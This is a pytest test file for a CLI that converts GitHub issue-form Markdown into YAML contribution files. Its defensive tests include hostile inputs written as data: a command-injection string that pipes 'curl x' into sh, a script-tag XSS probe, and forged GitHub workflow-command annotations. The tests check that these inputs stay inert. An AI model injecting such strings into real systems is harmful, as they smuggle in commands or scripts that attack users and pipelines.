"""`safeguards intake`: issue-form Markdown -> contribution file.

Cases live in tests/cases/intake/: ``valid/NAME.md`` (a body shaped exactly as GitHub
renders the "Propose a practice" form) with ``NAME.yaml`` (the contribution expected) and
optionally ``NAME.args`` (a JSON list of extra CLI arguments); ``invalid/NAME.md`` with
``NAME.expected`` (one line per problem the contributor must be told, as printed).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml

from dpi_safeguards.forge.issue_form import FORM_LABELS
from tests.support.cli import run_cli
from tests.support.paths import CASES

INTAKE = CASES / "intake"
VALID = sorted((INTAKE / "valid").glob("*.md"))
INVALID = sorted((INTAKE / "invalid").glob("*.md"))
HOSTILE = '"; curl x | sh; echo "'


def _args(case: Path) -> list[str]:
    sidecar = case.with_suffix(".args")
    if not sidecar.exists():
        return []
    args: list[str] = json.loads(sidecar.read_text(encoding="utf-8"))
    return args


def _proposed(root: Path) -> list[Path]:
    folder = root / "contributions" / "proposed"
    return sorted(folder.iterdir()) if folder.is_dir() else []


def test_cases_exist() -> None:
    assert len(VALID) >= 4 and len(INVALID) >= 8
    for case in VALID:
        assert case.with_suffix(".yaml").is_file(), f"{case.name} has no expected output"
    for case in INVALID:
        assert case.with_suffix(".expected").is_file(), f"{case.name} has no expected problems"


@pytest.mark.parametrize("case", VALID, ids=[p.stem for p in VALID])
def test_valid_body_gives_expected_contribution(case: Path, mini_root: Path) -> None:
    result = run_cli("--root", mini_root, "intake", case, "-o", "-", *_args(case))
    assert result.code == 0, result.output
    assert result.stdout == case.with_suffix(".yaml").read_text(encoding="utf-8")
    assert _proposed(mini_root) == [], "-o - must write nothing"


@pytest.mark.parametrize("case", VALID, ids=[p.stem for p in VALID])
def test_valid_body_written_file_passes_validate(case: Path, mini_root: Path) -> None:
    result = run_cli("--root", mini_root, "intake", case, "--issue", "7", *_args(case))
    assert result.code == 0, result.output
    (written,) = _proposed(mini_root)
    assert written.name.startswith("issue-7-") and written.suffix == ".yaml"
    assert f"wrote contributions/proposed/{written.name}" in result.stdout
    data = written.read_bytes()
    assert b"\r" not in data and data == case.with_suffix(".yaml").read_bytes()
    check = run_cli("--root", mini_root, "validate", "--strict", written)
    assert check.code == 0, check.output


@pytest.mark.parametrize("case", INVALID, ids=[p.stem for p in INVALID])
def test_invalid_body_names_each_field(case: Path, mini_root: Path) -> None:
    result = run_cli("--root", mini_root, "intake", case, *_args(case))
    assert result.code == 1, result.output
    assert "Traceback" not in result.output
    printed = result.stderr.splitlines()
    expected = case.with_suffix(".expected").read_text(encoding="utf-8").splitlines()
    for line in filter(None, expected):
        assert any(line in p for p in printed), f"{line!r} not in:\n{result.stderr}"
    problems = [p for p in printed if p.startswith("error: ")]
    assert problems, result.stderr
    for problem in problems:  # every problem is named by a label of the form
        label = problem.removeprefix("error: ").split(":", 1)[0]
        assert label in (*FORM_LABELS, "Form"), problem
    assert "nothing written" in result.stderr
    assert _proposed(mini_root) == []


def test_fixtures_keep_github_line_endings() -> None:
    """GitHub sends issue bodies with CRLF; .gitattributes keeps these fixtures so."""
    crlf = [case for case in (*VALID, *INVALID) if b"\r\n" in case.read_bytes()]
    assert len(crlf) >= 2, "the CRLF fixtures were normalised; check .gitattributes"


def test_crlf_and_lf_give_the_same_contribution(mini_root: Path, tmp_path: Path) -> None:
    case = INTAKE / "valid" / "practice-under-process.md"
    lf = tmp_path / "lf.md"
    lf.write_bytes(case.read_bytes().replace(b"\r\n", b"\n"))
    assert b"\r\n" in case.read_bytes()
    outputs = [
        run_cli("--root", mini_root, "intake", body, "-o", "-", *_args(case)).stdout
        for body in (case, lf)
    ]
    assert outputs[0] == outputs[1] != ""


def test_hostile_text_is_kept_as_data(mini_root: Path) -> None:
    case = INTAKE / "valid" / "hostile-text.md"
    result = run_cli("--root", mini_root, "intake", case, *_args(case))
    assert result.code == 0, result.output
    (written,) = _proposed(mini_root)
    data = yaml.safe_load(written.read_text(encoding="utf-8"))
    assert data["title"] == HOSTILE
    assert data["contributors"][0]["name"] == f"Robert{HOSTILE}"
    assert data["contributors"][0]["github"] == "octo-cat"
    assert HOSTILE in data["changes"][0]["text"]
    assert "<script>alert(1)</script>" in data["changes"][0]["text"]
    assert data["summary"].startswith("::error::forged annotation")


def test_github_format_cannot_forge_workflow_commands(mini_root: Path, tmp_path: Path) -> None:
    body = tmp_path / "body.md"
    body.write_text(
        "### Process or principle\n\nX1 ::error::forged\n\n### Proposed text\n\n"
        "line one\n\n::warning::second paragraph\n\n### Your name\n\n_No response_\n\n"
        "### Licence consent\n\n- [ ] I license my contribution\n",
        encoding="utf-8",
    )
    result = run_cli("--root", mini_root, "intake", body, "--format", "github")
    assert result.code == 1
    lines = result.stdout.splitlines()
    assert lines and all(line.startswith("::error title=Intake::") for line in lines), lines
    assert sum("::error::forged" in line for line in lines) == 1


def test_problems_file_for_the_bot_fences_the_text(mini_root: Path, tmp_path: Path) -> None:
    case = INTAKE / "invalid" / "unknown-place.md"
    problems = tmp_path / "problems.md"
    result = run_cli("--root", mini_root, "intake", case, "--problems", problems)
    assert result.code == 1
    text = problems.read_text(encoding="utf-8")
    fence = re.search(r"^(`{3,})text$", text, re.MULTILINE)
    assert fence is not None, text
    inner = text[fence.end() :]
    assert "- Process or principle: " in inner and inner.rstrip().endswith(fence.group(1))


def test_default_path_never_overwrites(mini_root: Path) -> None:
    case = INTAKE / "valid" / "minimal.md"
    first = run_cli("--root", mini_root, "intake", case)
    second = run_cli("--root", mini_root, "intake", case)
    assert first.code == 0 and second.code == 0, second.output
    names = [p.name for p in _proposed(mini_root)]
    slug = "practice-under-f3-1-train-local-volunteers-to-help-people"
    assert names == [f"{slug}-2.yaml", f"{slug}.yaml"], names


def test_explicit_output_is_never_replaced(mini_root: Path) -> None:
    case = INTAKE / "valid" / "minimal.md"
    target = mini_root / "mine.yaml"
    target.write_text("keep me\n", encoding="utf-8")
    result = run_cli("--root", mini_root, "intake", case, "-o", target)
    assert result.code == 1 and "already exists" in result.stderr
    assert target.read_text(encoding="utf-8") == "keep me\n"
    assert not [p for p in mini_root.iterdir() if p.name.startswith(".safeguards-tmp-")]


def test_body_from_stdin(mini_root: Path) -> None:
    case = INTAKE / "valid" / "minimal.md"
    result = run_cli("--root", mini_root, "intake", "-", "-o", "-", input=case.read_bytes())
    assert result.code == 0, result.stderr
    assert result.stdout_bytes == case.with_suffix(".yaml").read_bytes()


def test_usage_errors(mini_root: Path, tmp_path: Path) -> None:
    missing = run_cli("--root", mini_root, "intake", tmp_path / "nope.md")
    assert missing.code == 2 and "no such file" in missing.stderr
    latin = tmp_path / "latin.md"
    latin.write_bytes("### Your name\n\nJos\xe9\n".encode("latin-1"))
    bad = run_cli("--root", mini_root, "intake", latin)
    assert bad.code == 1 and "not valid UTF-8" in bad.stderr  # a problem of the issue
